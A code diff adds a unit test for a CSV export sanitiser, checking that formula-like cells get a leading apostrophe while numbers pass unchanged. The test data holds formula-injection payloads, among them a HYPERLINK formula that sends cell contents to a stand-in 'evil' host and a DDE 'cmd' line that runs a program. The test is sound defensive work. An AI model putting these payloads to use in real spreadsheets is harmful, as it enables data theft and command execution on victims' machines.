@@ -13,6 +13,38 @@ describe('CSV export', () => {
     ]);
   });
 
+  it('writes formula-like cells as text, with a leading apostrophe, and numbers as numbers', () => {
+    expect(
+      [
+        '=HYPERLINK("http://evil/?x="&A1;"Нажмите")',
+        '+cmd|" /C calc"!A0',
+        '-2+3',
+        '@SUM(A1:A9)',
+        '\t=1+1',
+        '\r=1+1',
+        'ООО =Ромашка',
+        -12.5,
+        '-12.50',
+        '+79990000001',
+        '-1,5',
+        '- 5',
+      ].map(csvField),
+    ).toEqual([
+      `"'=HYPERLINK(""http://evil/?x=""&A1;""Нажмите"")"`,
+      `"'+cmd|"" /C calc""!A0"`,
+      "'-2+3",
+      "'@SUM(A1:A9)",
+      "'\t=1+1",
+      `"'\r=1+1"`,
+      'ООО =Ромашка',
+      '-12.5',
+      '-12.50',
+      '+79990000001',
+      '-1,5',
+      "'- 5",
+    ]);
+  });
+
   it('reads every page of the filtered list, not one page, reporting progress', async () => {
     const all = Array.from({ length: 250 }, (_, i) => ({ id: i + 1, title: `Место ${i + 1}` }));
     const asked: number[] = [];
